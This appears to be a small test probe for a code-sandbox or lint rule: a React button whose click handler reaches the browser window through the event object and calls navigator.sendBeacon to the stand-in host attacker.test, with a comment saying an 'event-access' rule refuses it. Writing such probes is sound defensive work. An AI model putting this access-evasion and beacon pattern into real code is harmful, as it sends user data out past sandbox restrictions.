// probe: window through an event; refused by: event-access
export default function Probe() {
  const go = ({ view: { navigator: nav } }) => nav.sendBeacon("https://attacker.test/nested", "x");
  return <button onClick={go}>Go</button>;
}
